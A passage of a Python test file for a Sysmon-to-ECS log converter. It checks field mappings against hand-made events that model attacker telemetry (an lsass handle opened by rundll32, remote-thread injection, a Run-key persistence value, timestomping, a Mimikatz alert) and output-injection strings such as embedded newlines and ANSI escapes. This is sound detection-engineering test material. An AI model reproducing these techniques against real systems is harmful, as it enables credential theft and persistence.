"""ECS output (sysmonx.sinks.ecs): every corpus event's document checked against the ECS field
reference (names, value types, allowed categorisation values), exact documents for hand-made
events of each kind, and per corpus event type the mapping re-derived field by field."""

from __future__ import annotations

import ipaddress
import re
from collections import defaultdict
from pathlib import Path

import pytest

from sysmonx.event import LINUX_PROVIDER, Event
from sysmonx.sinks import writer_class
from sysmonx.sinks.ecs import CATEGORIES, ecs_line, event_to_ecs, windows_split_command_line
from sysmonx.sources import iter_input_files, open_source

from conftest import corpus_path

REF = Path(__file__).parent / "data" / "ecs_fields.tsv"


def _reference() -> tuple[dict[str, str], dict[str, set[str]]]:
    types: dict[str, str] = {}
    allowed: dict[str, set[str]] = {}
    for line in REF.read_text().splitlines():
        if line.startswith("#"):
            continue
        parts = line.split("\t")
        if parts[0] == "allowed":
            allowed[parts[1]] = set(parts[2].split(","))
        else:
            types[parts[0]] = parts[1]
    return types, allowed


TYPES, ALLOWED = _reference()
_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?Z$")


def _leaves(obj, prefix=""):
    for k, v in obj.items():
        path = f"{prefix}{k}"
        if isinstance(v, dict):
            yield from _leaves(v, path + ".")
        else:
            yield path, v


def _type_ok(ecs_type: str, value) -> bool:
    values = value if isinstance(value, list) else [value]
    for v in values:
        if ecs_type in ("keyword", "wildcard", "match_only_text", "text", "constant_keyword"):
            ok = isinstance(v, str)
        elif ecs_type == "long":
            ok = isinstance(v, int) and not isinstance(v, bool) and -2**63 <= v < 2**63
        elif ecs_type == "boolean":
            ok = isinstance(v, bool)
        elif ecs_type == "ip":
            try:
                ipaddress.ip_address(v)
                ok = True
            except (ValueError, TypeError):
                ok = False
        elif ecs_type == "date":
            ok = isinstance(v, str) and bool(_DATE.match(v))
        else:
            ok = False
        if not ok:
            return False
    return True


def check_document(doc: dict) -> list[str]:
    """Problems of one document against the ECS reference (``winlog.*`` is Beats' namespace and
    holds the original strings)."""
    problems = []
    for path, value in _leaves(doc):
        if path.startswith("winlog."):
            if path.startswith("winlog.event_data.") and not isinstance(value, str):
                problems.append(f"{path}: not a string")
            continue
        t = TYPES.get(path)
        if t is None:
            problems.append(f"{path}: not an ECS field")
        elif not _type_ok(t, value):
            problems.append(f"{path}: {value!r} is not ECS type {t}")
        if path in ALLOWED:
            for v in value if isinstance(value, list) else [value]:
                if v not in ALLOWED[path]:
                    problems.append(f"{path}: {v!r} is not an allowed value")
    return problems


def _corpus_events():
    root = corpus_path()
    if root is None:
        pytest.skip("reference corpus not available (set SYSMONX_CORPUS)")
    folders = [str(root / "evtx"), str(root / "json"), str(root / "linux")]
    files = list(iter_input_files(folders, lambda n: None))
    for f in files:
        for e in open_source(str(f), lambda err: None):
            if e.is_sysmon:
                yield f, e


@pytest.fixture(scope="module")
def corpus_by_id():
    by_id: dict[int, list[Event]] = defaultdict(list)
    n = 0
    for _, e in _corpus_events():
        n += 1
        if len(by_id[e.event_id]) < 50:
            by_id[e.event_id].append(e)
        problems = check_document(event_to_ecs(e))
        assert problems == [], (e.event_id, e.origin, problems)
    assert n > 20000, n
    return by_id


def test_every_corpus_event_is_valid_ecs(corpus_by_id):
    # the fixture checked every event; the corpus has most Sysmon event types on both platforms
    assert {1, 3, 5, 7, 8, 10, 11, 12, 13, 22, 23}.issubset(corpus_by_id)


#: EventIDs no recorded log in the corpus holds: their per-EventID check below skips (README,
#: "Run the tests": the two allowed skips); the golden documents (14-windows) and
#: test_network_dns_file_registry_and_error_documents (255) check their mapping instead.
NOT_IN_RECORDED_LOGS = frozenset({14, 255})


@pytest.mark.parametrize("eid", [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18,
                                 19, 20, 21, 22, 23, 24, 25, 26, 255])
def test_mapping_per_corpus_event_type(corpus_by_id, eid):
    if eid not in corpus_by_id:
        if eid in NOT_IN_RECORDED_LOGS:  # allowed: the reason names no corpus (conftest)
            pytest.skip(f"no event {eid} among the recorded logs (the hand-made documents "
                        "cover it)")
        # any other EventID missing means a damaged or incomplete corpus: this reason names
        # it, so the skip fails the run when SYSMONX_CORPUS is set
        pytest.skip(f"no event {eid} in the corpus's recorded logs, which had one")
    for e in corpus_by_id[eid]:
        doc = event_to_ecs(e)
        d = e.data
        linux = e.provider == LINUX_PROVIDER or (d.get("Image") or "").startswith("/")
        ev = doc["event"]
        assert ev["code"] == str(eid) and ev["module"] == "sysmon"
        assert ev["action"] == CATEGORIES[eid][2]
        assert ev["type"] == list(CATEGORIES[eid][1])
        assert doc["winlog"]["event_data"] == d  # the original fields, all of them
        assert doc["host"]["name"] == e.computer
        assert doc["host"]["os"]["type"] == ("linux" if linux else "windows")
        if "UtcTime" in d:
            assert doc["@timestamp"] == d["UtcTime"].replace(" ", "T") + "Z"
        proc = doc.get("process", {})
        image = d.get("SourceImage") if eid in (8, 10) else d.get("Image")
        if image not in (None, "", "-"):
            assert proc["executable"] == image
            assert proc["name"] == image.rsplit("/" if linux else "\\", 1)[-1]
        pid = d.get("SourceProcessId") if eid in (8, 10) else d.get("ProcessId")
        if pid and pid.isdigit():
            assert proc["pid"] == int(pid)
        if d.get("CommandLine") not in (None, "", "-") and eid not in (8, 10):
            argv = proc["args"]
            if linux:
                assert " ".join(argv) == d["CommandLine"]
            assert proc["args_count"] == len(argv)
        if eid == 1 and d.get("ParentImage") not in (None, "", "-"):
            assert proc["parent"]["executable"] == d["ParentImage"]
        if eid == 3:
            if d.get("DestinationIp", "-") != "-":
                assert ipaddress.ip_address(doc["destination"]["ip"]) == \
                    ipaddress.ip_address(d["DestinationIp"])
            if d.get("DestinationPort", "").isdigit():
                assert doc["destination"]["port"] == int(d["DestinationPort"])
            if d.get("Protocol", "-") != "-":
                assert doc["network"]["transport"] == d["Protocol"].lower()
        if eid == 22 and d.get("QueryName", "-") != "-":
            assert doc["dns"]["question"]["name"] == d["QueryName"]
        if eid in (11, 23, 26) and d.get("TargetFilename", "-") != "-":
            assert doc["file"]["path"] == d["TargetFilename"]
        if eid in (12, 13, 14) and d.get("TargetObject", "-") != "-":
            assert doc["registry"]["path"] == d["TargetObject"]
        if d.get("User", "-") != "-":
            assert doc["user"]["name"] == (d["User"] if linux else d["User"].split("\\")[-1])
        if d.get("RuleName", "-") not in ("-", ""):
            assert doc["rule"]["name"] == d["RuleName"]


# ---- exact documents for hand-made events --------------------------------------------------------

def _win(eid: int, data: dict, version: int = 5, level: int = 4) -> Event:
    return Event(eid, data, version=version, level=level, task=eid, opcode=0, record_id=42,
                 time_created="2024-05-06T07:08:09.123456700Z", process_id=3192, thread_id=3288,
                 computer="ws01.corp.example", user_id="S-1-5-18",
                 keywords="0x8000000000000000", channel="Microsoft-Windows-Sysmon/Operational")


def _linux(eid: int, data: dict, version: int = 5, level: int = 4) -> Event:
    return Event(eid, data, provider=LINUX_PROVIDER,
                 provider_guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}", version=version,
                 level=level,
                 task=eid, opcode=0, record_id=7, time_created="2024-05-06T07:08:09.000000000Z",
                 process_id=1234, thread_id=1234, computer="web01",
                 channel="Linux-Sysmon/Operational", user_id="0")


def test_windows_process_create_document():
    e = _win(1, {
        "RuleName": "technique_id=T1059,technique_name=Command-Line Interface",
        "UtcTime": "2024-05-06 07:08:09.120", "ProcessGuid": "{aaaa-1}", "ProcessId": "4242",
        "Image": "C:\\Windows\\System32\\cmd.exe", "FileVersion": "10.0", "Description": "-",
        "Product": "Microsoft Windows", "Company": "Microsoft Corporation",
        "OriginalFileName": "Cmd.Exe",
        "CommandLine": 'cmd.exe /c "echo a b" C:\\x\\\\"y z"',
        "CurrentDirectory": "C:\\Users\\bob\\", "User": "CORP\\bob",
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "LogonId": "0x3e7",
        "Hashes": "SHA1=ABCDEF,MD5=00000000000000000000000000000000,IMPHASH=1234",
        "ParentProcessGuid": "{aaaa-0}", "ParentProcessId": "100",
        "ParentImage": "C:\\Windows\\explorer.exe", "ParentCommandLine": "explorer.exe"})
    doc = event_to_ecs(e)
    assert doc["@timestamp"] == "2024-05-06T07:08:09.120Z"
    assert doc["event"] == {"kind": "event", "code": "1", "module": "sysmon",
                            "provider": "Microsoft-Windows-Sysmon", "category": ["process"],
                            "type": ["start"], "action": "Process creation",
                            "created": "2024-05-06T07:08:09.123456700Z"}
    assert doc["process"] == {
        "entity_id": "{aaaa-1}", "pid": 4242, "executable": "C:\\Windows\\System32\\cmd.exe",
        "name": "cmd.exe", "command_line": 'cmd.exe /c "echo a b" C:\\x\\\\"y z"',
        "args": ["cmd.exe", "/c", "echo a b", "C:\\x\\y z"], "args_count": 4,
        "working_directory": "C:\\Users\\bob\\",
        "parent": {"entity_id": "{aaaa-0}", "pid": 100, "executable": "C:\\Windows\\explorer.exe",
                   "name": "explorer.exe", "command_line": "explorer.exe",
                   "args": ["explorer.exe"], "args_count": 1},
        "pe": {"original_file_name": "Cmd.Exe", "company": "Microsoft Corporation",
               "file_version": "10.0", "product": "Microsoft Windows", "imphash": "1234"},
        "hash": {"sha1": "abcdef"}}
    assert doc["user"] == {"domain": "CORP", "name": "bob"}
    assert doc["rule"] == {"name": "technique_id=T1059,technique_name=Command-Line Interface"}
    assert doc["host"] == {"os": {"type": "windows"}, "name": "ws01.corp.example",
                           "hostname": "ws01"}
    assert doc["related"] == {"hash": ["1234", "abcdef"], "user": ["bob"]}
    assert doc["winlog"]["event_data"] == e.data
    assert doc["winlog"]["record_id"] == "42" and doc["winlog"]["process"] == {
        "pid": 3192, "thread": {"id": 3288}}
    assert check_document(doc) == []


def test_linux_process_create_uses_the_argv_and_posix_names():
    e = _linux(1, {
        "RuleName": "-", "UtcTime": "2024-05-06 07:08:09.000", "ProcessGuid": "{x}",
        "ProcessId": "555", "Image": "/usr/bin/python3.11", "FileVersion": "-",
        "Description": "-", "Product": "-", "Company": "-", "OriginalFileName": "-",
        "CommandLine": 'python3 -c print("a\\\\b")  "quoted"',
        "CurrentDirectory": "/root", "User": "root", "LogonGuid": "{y}", "LogonId": "0",
        "TerminalSessionId": "3", "IntegrityLevel": "no level", "Hashes": "-",
        "ParentProcessGuid": "{z}", "ParentProcessId": "1", "ParentImage": "/usr/bin/bash",
        "ParentCommandLine": "-bash", "ParentUser": "root"})
    doc = event_to_ecs(e)
    p = doc["process"]
    assert p["name"] == "python3.11"
    # Sysmon for Linux joins argv with single spaces; the split gives it back, the empty
    # argument and the quotes included (a Windows split would eat the quotes and backslashes)
    assert p["args"] == ["python3", "-c", 'print("a\\\\b")', "", '"quoted"']
    assert p["parent"]["name"] == "bash" and p["parent"]["args"] == ["-bash"]
    assert "pe" not in p and "hash" not in p
    assert doc["user"] == {"name": "root"}
    assert doc["host"]["os"]["type"] == "linux"
    assert "rule" not in doc
    assert check_document(doc) == []


def test_network_dns_file_registry_and_error_documents():
    net = event_to_ecs(_linux(3, {
        "RuleName": "-", "UtcTime": "2024-05-06 07:08:09.000", "ProcessGuid": "{x}",
        "ProcessId": "9", "Image": "/usr/bin/curl", "User": "bob", "Protocol": "tcp",
        "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.0.0.5",
        "SourceHostname": "-", "SourcePort": "50000", "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": "93.184.216.34",
        "DestinationHostname": "-", "DestinationPort": "443", "DestinationPortName": "-"}))
    assert net["source"] == {"ip": "10.0.0.5", "port": 50000}
    assert net["destination"] == {"ip": "93.184.216.34", "port": 443}
    assert net["network"] == {"transport": "tcp", "type": "ipv4", "direction": "egress"}
    assert net["related"]["ip"] == ["10.0.0.5", "93.184.216.34"]
    bad = event_to_ecs(_linux(3, {"SourceIp": "-", "SourcePort": "x", "DestinationIp": "nope"}))
    assert "source" not in bad and "destination" not in bad  # unknown stays in winlog only
    assert bad["winlog"]["event_data"]["DestinationIp"] == "nope"

    dns = event_to_ecs(_win(22, {
        "RuleName": "-", "UtcTime": "2024-05-06 07:08:09.000", "ProcessGuid": "{x}",
        "ProcessId": "9", "QueryName": "example.com", "QueryStatus": "0",
        "QueryResults": "type:  5 edge.example.net;::ffff:93.184.216.34;2606:2800::1;",
        "Image": "C:\\b.exe"}))
    assert dns["dns"] == {"question": {"name": "example.com"},
                          "resolved_ip": ["93.184.216.34", "2606:2800::1"]}
    assert dns["event"]["category"] == ["network"]
    assert dns["network"] == {"protocol": "dns"}
    assert dns["related"]["hosts"] == ["edge.example.net", "example.com"]  # answers, then query

    f = event_to_ecs(_win(11, {"TargetFilename": "C:\\Users\\bob\\Desktop\\Evil.PS1",
                               "Image": "C:\\x.exe"}))
    assert f["file"] == {"path": "C:\\Users\\bob\\Desktop\\Evil.PS1", "name": "Evil.PS1",
                         "directory": "C:\\Users\\bob\\Desktop", "extension": "ps1"}
    lf = event_to_ecs(_linux(23, {"TargetFilename": "/tmp/.x/payload", "Image": "/bin/rm",
                                  "Hashes": "SHA256=ABC"}))
    assert lf["file"] == {"path": "/tmp/.x/payload", "name": "payload", "directory": "/tmp/.x",
                          "hash": {"sha256": "abc"}}

    r = event_to_ecs(_win(13, {"EventType": "SetValue",
                               "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Run\\evil",
                               "Details": "C:\\evil.exe", "Image": "C:\\x.exe"}))
    assert r["registry"] == {"path": "HKLM\\SOFTWARE\\Microsoft\\Run\\evil", "hive": "HKLM",
                             "value": "evil", "key": "SOFTWARE\\Microsoft\\Run",
                             "data": {"strings": ["C:\\evil.exe"]}}
    assert r["event"]["category"] == ["configuration", "registry"]
    # DWORD and QWORD data as decimal numbers with their type (Elastic parses the same forms,
    # but names them SZ_DWORD/SZ_QWORD and shifts the QWORD's high half by 8 bits, not 32)
    dw = event_to_ecs(_win(13, {"EventType": "SetValue", "Details": "DWORD (0x00000400)",
                                "TargetObject": "HKLM\\SOFTWARE\\Policies\\X\\Level"}))
    assert dw["registry"]["data"] == {"strings": ["1024"], "type": "REG_DWORD"}
    qw = event_to_ecs(_win(13, {"EventType": "SetValue",
                                "Details": "QWORD (0x00000001-0x00000002)",
                                "TargetObject": "HKLM\\SOFTWARE\\X\\Stamp"}))
    assert qw["registry"]["data"] == {"strings": [str(2**32 + 2)], "type": "REG_QWORD"}
    assert "type" not in r["registry"]["data"]  # a string value: SZ or EXPAND_SZ, unknown

    err = event_to_ecs(_win(255, {"UtcTime": "2024-05-06 07:08:09.000", "ID": "Output",
                                  "Description": "3 events could not be written"}))
    assert err["error"] == {"code": "Output", "message": "3 events could not be written"}
    assert err["event"]["outcome"] == "failure"
    img = event_to_ecs(_win(7, {"ImageLoaded": "C:\\a\\b.dll", "Signed": "true",
                                "Signature": "Microsoft Windows", "SignatureStatus": "Valid",
                                "Hashes": "SHA256=AA,IMPHASH=BB", "Image": "C:\\x.exe"}))
    assert img["file"]["code_signature"] == {"exists": True, "subject_name": "Microsoft Windows",
                                             "status": "Valid", "valid": True}
    assert img["file"]["hash"] == {"sha256": "aa"} and img["file"]["pe"] == {"imphash": "bb"}
    for doc in (net, bad, dns, f, lf, r, dw, qw, err, img):
        assert check_document(doc) == []


def test_alert_document():
    from sysmonx.detection.alerts import SIGMA_ALERT_EVENT_ID
    e = _win(SIGMA_ALERT_EVENT_ID, {"RuleId": "5b4f8a2e-0000", "RuleTitle": "Mimikatz",
                                    "RuleLevel": "high", "Tags": "attack.t1003,attack.s0002"})
    doc = event_to_ecs(e)
    assert doc["event"]["kind"] == "alert"
    assert doc["rule"] == {"name": "Mimikatz", "id": "5b4f8a2e-0000"}
    assert doc["tags"] == ["attack.t1003", "attack.s0002"]
    assert check_document(doc) == []


def test_windows_command_line_split_rules():
    assert windows_split_command_line(r'a\\\"b "c d" e\\f "g""h"') == ['a\\"b', "c d", "e\\\\f",
                                                                        'g"h']
    assert windows_split_command_line("  ") == []


def test_writer_lines_and_hostile_values(tmp_path):
    e = _win(1, {"Image": "C:\\a.exe", "CommandLine": "x\ny\u0085\"}", "Evil\n": "\x1b[31m"})
    out = tmp_path / "o.ecs"
    with writer_class("ecs").open(str(out)) as w:
        w.write(e)
        w.write(_win(1, {"Surrogate": "a\ud800b"}))
    raw = out.read_bytes()
    assert raw.count(b"\n") == 2 and b"\x1b" not in raw and b"\xc2\x85" not in raw
    import json
    docs = [json.loads(line) for line in raw.splitlines()]  # orjson refuses lone surrogates
    assert docs[0]["winlog"]["event_data"] == e.data
    assert docs[1]["winlog"]["event_data"]["Surrogate"] == "a\ud800b"
    assert ecs_line(e) == raw.splitlines()[0]


# ---- one exact document per further event type -------------------------------------------------
# Each input is a made-up event in Sysmon's field order for its EventID (the newest schema; Sysmon
# for Linux's own where it emits the type), each expected document written out from Elastic's
# mapping (sysmon.yml, cited in docs/OUTPUTS.md) and the deliberate differences listed there.

_UT = "2024-05-06 07:08:09.120"
_TS = "2024-05-06T07:08:09.120Z"
_WIN_SYSTEM = {"channel": "Microsoft-Windows-Sysmon/Operational",
               "provider_name": "Microsoft-Windows-Sysmon",
               "provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
               "computer_name": "ws01.corp.example", "record_id": "42", "opcode": "0",
               "process": {"pid": 3192, "thread": {"id": 3288}},
               "user": {"identifier": "S-1-5-18"}}
_LINUX_SYSTEM = {"channel": "Linux-Sysmon/Operational", "provider_name": "Linux-Sysmon",
                 "provider_guid": "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}",
                 "computer_name": "web01", "record_id": "7", "opcode": "0",
                 "process": {"pid": 1234, "thread": {"id": 1234}}, "user": {"identifier": "0"}}


def _expect(e: Event, event: dict, level: str = "information", **fields) -> dict:
    """The whole expected document: the header every document has (written out for the
    ``_win``/``_linux`` System values), ``event`` with the given categorisation, and ``fields``."""
    linux = e.provider == LINUX_PROVIDER
    doc = {"@timestamp": _TS, "ecs": {"version": "8.11.0"},
           "event": {"kind": "event", "code": str(e.event_id), "module": "sysmon",
                     "provider": "Linux-Sysmon" if linux else "Microsoft-Windows-Sysmon",
                     **event,
                     "created": "2024-05-06T07:08:09.000000000Z" if linux
                     else "2024-05-06T07:08:09.123456700Z"},
           "host": {"os": {"type": "linux"}, "name": "web01", "hostname": "web01"} if linux
           else {"os": {"type": "windows"}, "name": "ws01.corp.example", "hostname": "ws01"},
           "log": {"level": level},
           "winlog": {**(_LINUX_SYSTEM if linux else _WIN_SYSTEM), "event_id": str(e.event_id),
                      "version": e.version, "task": str(e.event_id), "event_data": e.data}}
    doc.update(fields)
    return doc


_BOB = {"user": {"domain": "CORP", "name": "bob"}, "related": {"user": ["bob"]}}
_FIREFOX = "C:\\Program Files\\Mozilla Firefox\\firefox.exe"
_PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_G1 = "{5f1c2a3b-6d7e-6638-1a02-000000000c00}"
_G2 = "{5f1c2a3b-6d7f-6638-1b02-000000000c00}"
_LG = "{7b3d9f10-2c4e-6638-d8a1-5b3c00000000}"


def _golden_cases():
    cases = []

    def case(name, e, event, **fields):
        cases.append(pytest.param(e, _expect(e, event, **fields), id=name))

    e = _win(2, {
        "RuleName": "technique_id=T1070.006,technique_name=Timestomp", "UtcTime": _UT,
        "ProcessGuid": _G1, "ProcessId": "6120",
        "Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\ts.exe",
        "TargetFilename": "C:\\Users\\bob\\AppData\\Roaming\\Startup\\updater.lnk",
        "CreationUtcTime": "2019-03-01 10:00:00.000",
        "PreviousCreationUtcTime": "2024-05-06 07:08:08.884", "User": "CORP\\bob"})
    case("2-windows", e, {"category": ["file"], "type": ["change"],
                          "action": "A process changed a file creation time"},
         rule={"name": "technique_id=T1070.006,technique_name=Timestomp"},
         process={"entity_id": _G1, "pid": 6120,
                  "executable": "C:\\Users\\bob\\AppData\\Local\\Temp\\ts.exe", "name": "ts.exe"},
         file={"path": "C:\\Users\\bob\\AppData\\Roaming\\Startup\\updater.lnk",
               "name": "updater.lnk", "directory": "C:\\Users\\bob\\AppData\\Roaming\\Startup",
               "extension": "lnk"}, **_BOB)

    e = _win(3, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G2, "ProcessId": "7740",
        "Image": _FIREFOX, "User": "CORP\\bob", "Protocol": "tcp", "Initiated": "true",
        "SourceIsIpv6": "false", "SourceIp": "10.20.30.40", "SourceHostname": "ws01.corp.example",
        "SourcePort": "51544", "SourcePortName": "-", "DestinationIsIpv6": "false",
        "DestinationIp": "198.51.100.23", "DestinationHostname": "-", "DestinationPort": "443",
        "DestinationPortName": "https"})
    case("3-windows", e, {"category": ["network"], "type": ["start", "connection", "protocol"],
                          "action": "Network connection"},
         process={"entity_id": _G2, "pid": 7740, "executable": _FIREFOX, "name": "firefox.exe"},
         source={"ip": "10.20.30.40", "domain": "ws01.corp.example", "port": 51544},
         destination={"ip": "198.51.100.23", "port": 443},
         network={"transport": "tcp", "protocol": "https", "type": "ipv4",
                  "direction": "egress"},
         user={"domain": "CORP", "name": "bob"},
         related={"user": ["bob"], "ip": ["10.20.30.40", "198.51.100.23"]})

    dll = "C:\\Users\\bob\\AppData\\Local\\Temp\\version.dll"
    e = _win(7, {
        "RuleName": "technique_id=T1574.002,technique_name=DLL Side-Loading", "UtcTime": _UT,
        "ProcessGuid": _G2, "ProcessId": "7740", "Image": _FIREFOX, "ImageLoaded": dll,
        "FileVersion": "10.0.19041.546", "Description": "Version Checking and File Installation "
        "Libraries", "Product": "Microsoft Windows Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": "VERSION.DLL",
        "Hashes": "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
        "Signed": "false", "Signature": "-", "SignatureStatus": "Unavailable",
        "User": "CORP\\bob"}, version=3)
    # Elastic: the version resource of the loaded image goes to file.pe.* for 7 (process.pe.*
    # is the process's own, event 1); code_signature.valid only when the status is Valid
    empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    case("7-windows", e, {"category": ["process"], "type": ["change"], "action": "Image loaded"},
         rule={"name": "technique_id=T1574.002,technique_name=DLL Side-Loading"},
         process={"entity_id": _G2, "pid": 7740, "executable": _FIREFOX, "name": "firefox.exe"},
         file={"path": dll, "name": "version.dll",
               "directory": "C:\\Users\\bob\\AppData\\Local\\Temp", "extension": "dll",
               "code_signature": {"exists": False, "status": "Unavailable"},
               "pe": {"original_file_name": "VERSION.DLL", "company": "Microsoft Corporation",
                      "description": "Version Checking and File Installation Libraries",
                      "file_version": "10.0.19041.546",
                      "product": "Microsoft Windows Operating System"},
               "hash": {"sha256": empty}},
         user={"domain": "CORP", "name": "bob"}, related={"hash": [empty], "user": ["bob"]})

    state = {"category": ["process"], "type": ["change"], "action": "Sysmon service state changed"}
    case("4-windows", _win(4, {"UtcTime": _UT, "State": "Started", "Version": "15.15",
                               "SchemaVersion": "4.90"}, version=3), state)
    case("4-linux", _linux(4, {"UtcTime": _UT, "State": "Started", "Version": "1.3.3",
                               "SchemaVersion": "4.81"}, version=3), state)

    end = {"category": ["process"], "type": ["end"], "action": "Process terminated"}
    case("5-windows", _win(5, {"RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G2,
                               "ProcessId": "7740", "Image": _FIREFOX, "User": "CORP\\bob"},
                           version=3), end,
         process={"entity_id": _G2, "pid": 7740, "executable": _FIREFOX, "name": "firefox.exe"},
         **_BOB)
    case("5-linux", _linux(5, {"RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG,
                               "ProcessId": "31337", "Image": "/usr/bin/sleep",
                               "User": "www-data"}, version=3), end,
         process={"entity_id": _LG, "pid": 31337, "executable": "/usr/bin/sleep",
                  "name": "sleep"},
         user={"name": "www-data"}, related={"user": ["www-data"]})

    e = _win(6, {
        "RuleName": "-", "UtcTime": _UT,
        "ImageLoaded": "C:\\Windows\\System32\\drivers\\HwTool64.sys",
        "Hashes": "SHA1=9C2A41E07B35D6F8A1C0E2B4D6F8A0C2E4B6D8F0,"
                  "MD5=5E1F0A3C7B9D2E4F6A8C0B1D3E5F7A9C,"
                  "SHA256=2B7E151628AED2A6ABF7158809CF4F3C762E7160F38B4DA56A784D9045190CFE,"
                  "IMPHASH=D41D8CD98F00B204E9800998ECF8427F",
        "Signed": "true", "Signature": "Example Hardware Ltd.", "SignatureStatus": "Valid"},
        version=4)
    case("6-windows", e, {"category": ["driver"], "type": ["start"], "action": "Driver loaded"},
         file={"path": "C:\\Windows\\System32\\drivers\\HwTool64.sys", "name": "HwTool64.sys",
               "directory": "C:\\Windows\\System32\\drivers", "extension": "sys",
               "code_signature": {"exists": True, "subject_name": "Example Hardware Ltd.",
                                  "status": "Valid", "valid": True},
               "hash": {"sha1": "9c2a41e07b35d6f8a1c0e2b4d6f8a0c2e4b6d8f0",
                        "md5": "5e1f0a3c7b9d2e4f6a8c0b1d3e5f7a9c",
                        "sha256": "2b7e151628aed2a6abf7158809cf4f3c"
                                  "762e7160f38b4da56a784d9045190cfe"},
               "pe": {"imphash": "d41d8cd98f00b204e9800998ecf8427f"}},
         related={"hash": ["2b7e151628aed2a6abf7158809cf4f3c762e7160f38b4da56a784d9045190cfe",
                           "5e1f0a3c7b9d2e4f6a8c0b1d3e5f7a9c",
                           "9c2a41e07b35d6f8a1c0e2b4d6f8a0c2e4b6d8f0",
                           "d41d8cd98f00b204e9800998ecf8427f"]})

    src = "C:\\Users\\bob\\AppData\\Local\\Temp\\inj.exe"
    e = _win(8, {
        "RuleName": "technique_id=T1055,technique_name=Process Injection", "UtcTime": _UT,
        "SourceProcessGuid": _G1, "SourceProcessId": "4720", "SourceImage": src,
        "TargetProcessGuid": _G2, "TargetProcessId": "1032",
        "TargetImage": "C:\\Windows\\System32\\notepad.exe", "NewThreadId": "5512",
        "StartAddress": "0x00007FF6A1B21000", "StartModule": "-", "StartFunction": "-",
        "SourceUser": "CORP\\bob", "TargetUser": "CORP\\bob"}, version=2)
    # Elastic maps the source process only (and neither SourceUser nor TargetUser)
    case("8-windows", e, {"category": ["process"], "type": ["change"],
                          "action": "CreateRemoteThread"},
         rule={"name": "technique_id=T1055,technique_name=Process Injection"},
         process={"entity_id": _G1, "pid": 4720, "executable": src, "name": "inj.exe"})

    # 9 and 25 are not in the recorded logs; written from the same mapping
    e = _win(9, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G1, "ProcessId": "4720",
        "Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\ntfsdump.exe",
        "Device": "\\Device\\HarddiskVolume2", "User": "CORP\\bob"}, version=2)
    case("9-windows", e, {"category": ["process"], "type": ["access"], "action": "RawAccessRead"},
         process={"entity_id": _G1, "pid": 4720,
                  "executable": "C:\\Users\\bob\\AppData\\Local\\Temp\\ntfsdump.exe",
                  "name": "ntfsdump.exe"},
         file={"path": "\\Device\\HarddiskVolume2", "name": "HarddiskVolume2",
               "directory": "\\Device"}, **_BOB)
    e = _win(25, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G2, "ProcessId": "1032",
        "Image": "C:\\Windows\\System32\\notepad.exe", "Type": "Image is replaced",
        "User": "CORP\\bob"})
    case("25-windows", e, {"category": ["process"], "type": ["change"],
                           "action": "ProcessTampering (Process image change)"},
         process={"entity_id": _G2, "pid": 1032,
                  "executable": "C:\\Windows\\System32\\notepad.exe", "name": "notepad.exe"},
         message="Image is replaced", **_BOB)

    e = _win(10, {
        "RuleName": "-", "UtcTime": _UT, "SourceProcessGUID": _G1, "SourceProcessId": "4720",
        "SourceThreadId": "6124", "SourceImage": "C:\\Windows\\System32\\rundll32.exe",
        "TargetProcessGUID": _G2, "TargetProcessId": "668",
        "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                     "C:\\Windows\\System32\\KERNELBASE.dll+2730e|UNKNOWN(0000021A3B4C5D6E)",
        "SourceUser": "CORP\\bob", "TargetUser": "NT AUTHORITY\\SYSTEM"}, version=3)
    case("10-windows", e, {"category": ["process"], "type": ["access"],
                           "action": "ProcessAccess"},
         process={"entity_id": _G1, "pid": 4720,
                  "executable": "C:\\Windows\\System32\\rundll32.exe", "name": "rundll32.exe",
                  "thread": {"id": 6124}})

    e = _win(12, {
        "RuleName": "-", "EventType": "CreateKey", "UtcTime": _UT, "ProcessGuid": _G1,
        "ProcessId": "2980", "Image": "C:\\Windows\\regedit.exe",
        "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc",
        "User": "CORP\\admin"}, version=2)
    # a key, not a value: no registry.value (Elastic's pipeline writes the last key name there)
    case("12-windows", e, {"category": ["configuration", "registry"], "type": ["change"],
                           "action": "RegistryEvent (Object create and delete)"},
         process={"entity_id": _G1, "pid": 2980, "executable": "C:\\Windows\\regedit.exe",
                  "name": "regedit.exe"},
         registry={"path": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc", "hive": "HKLM",
                   "key": "System\\CurrentControlSet\\Services\\UpdSvc"},
         user={"domain": "CORP", "name": "admin"}, related={"user": ["admin"]})

    # no recorded log holds an event 14: this document is its only ECS check (and the reason
    # test_mapping_per_corpus_event_type may skip it); NewName has no ECS field, it stays in
    # winlog.event_data
    e = _win(14, {
        "RuleName": "-", "EventType": "RenameKey", "UtcTime": _UT, "ProcessGuid": _G1,
        "ProcessId": "2980", "Image": "C:\\Windows\\regedit.exe",
        "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc",
        "NewName": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc2",
        "User": "CORP\\admin"}, version=2)
    case("14-windows", e, {"category": ["configuration", "registry"], "type": ["change"],
